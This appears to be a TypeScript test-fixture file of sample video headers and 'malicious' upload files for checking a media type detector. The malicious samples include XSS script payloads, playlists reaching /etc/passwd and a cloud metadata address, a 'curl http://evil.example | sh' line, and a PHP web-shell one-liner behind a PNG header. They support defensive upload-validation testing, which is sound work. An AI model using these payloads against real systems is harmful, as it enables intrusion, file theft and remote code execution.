import { randomBytes } from 'node:crypto';

/** The header of an MP4 followed by noise: valid for type detection only. */
export const mp4 = (size = 20_000): Buffer => {
  const head = Buffer.from('\0\0\0\x20ftypisom\0\0\x02\0isomiso2avc1mp41', 'latin1');
  return Buffer.concat([head, randomBytes(Math.max(0, size - head.length))]);
};

const noise = randomBytes(4_000).toString('latin1').replaceAll('<', '.').replaceAll('#', '.').replaceAll('%', '.');
const withNoise = (head: string): Buffer => Buffer.from(head + noise, 'latin1');
const transportStream = (prefix: string, length: number): Buffer =>
  withNoise(Array.from({ length: 4 }, () => `${prefix}G${'\0'.repeat(length - prefix.length - 1)}`).join(''));

/** Headers of all accepted video types. */
export const videoHeaders: readonly (readonly [string, Buffer])[] = [
  ['video/mp4', mp4()],
  ['video/mp4', withNoise('\0\0\0\x18ftypmp42\0\0\0\0mp42isom')],
  ['video/mp4', withNoise('\0\0\0\x18ftyp3gp4\0\0\0\x003gp4isom')],
  ['video/quicktime', withNoise('\0\0\0\x14ftypqt  \0\0\0\0qt  ')],
  ['video/quicktime', withNoise('\0\0\0\x08wide\0\0\x10\0mdat')],
  ['video/webm', withNoise('\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\x82\x84webm')],
  ['video/x-matroska', withNoise('\x1a\x45\xdf\xa3\xa3\x42\x86\x81\x01\x42\x82\x88matroska')],
  ['video/x-msvideo', withNoise('RIFF\0\0\0\0AVI LIST')],
  ['video/mp2t', transportStream('', 188)],
  ['video/mp2t', transportStream('\0\0\0\x01', 192)],
  ['video/mpeg', withNoise('\0\0\x01\xba\x44\0')],
  ['video/ogg', withNoise('OggS\0\x02\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x01\x2a\x80theora')],
];

/** Files that are neither an image nor a video, or that are polyglots. */
export const maliciousFiles: readonly (readonly [string, Buffer])[] = [
  ['SVG with a script', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
  ['SVG after an XML declaration', Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['HTML', Buffer.from('<!doctype html><html><body onload="alert(1)"></body></html>')],
  ['playlist with a local file', Buffer.from('#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n')],
  ['playlist with a URL', Buffer.from('#EXTM3U\n#EXTINF:10.0,\nhttp://169.254.169.254/latest/meta-data/\n')],
  ['concat script', Buffer.from("ffconcat version 1.0\nfile '/etc/passwd'\n")],
  ['DASH manifest', Buffer.from('<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"></MPD>')],
  ['ZIP', withNoise('PK\x03\x04\x14\0\0\0\x08\0')],
  ['gzip', withNoise('\x1f\x8b\x08\0\0\0\0\0')],
  ['PDF', withNoise('%PDF-1.7\n')],
  ['executable', withNoise('\x7fELF\x02\x01\x01\0')],
  ['shell script', Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n')],
  ['audio', withNoise('ID3\x04\0\0\0\0')],
  ['audio in an MP4', withNoise('\0\0\0\x20ftypM4A \0\0\0\0M4A mp42isom')],
  ['HEIC image', withNoise('\0\0\0\x18ftypheic\0\0\0\0mif1heic')],
  ['Flash video', withNoise('FLV\x01\x05\0\0\0\x09')],
  ['GIF that is also a script', withNoise('GIF89a/*<script>alert(1)</script>*/=1;')],
  ['JPEG with embedded HTML', withNoise('\xff\xd8\xff\xe0\0\x10JFIF<html><script src=//evil.example>')],
  ['MP4 with a playlist in its header', withNoise('\0\0\0\x20ftypisom\0\0\x02\0isom\0\0\0\x40free#EXTM3U\nfile:///etc/passwd')],
  ['PHP after a PNG header', withNoise('\x89PNG\r\n\x1a\n\0\0\0\rIHDR<?php system($_GET[0]); ?>')],
  ['text', Buffer.from('just text')],
  ['one byte', Buffer.from('x')],
];
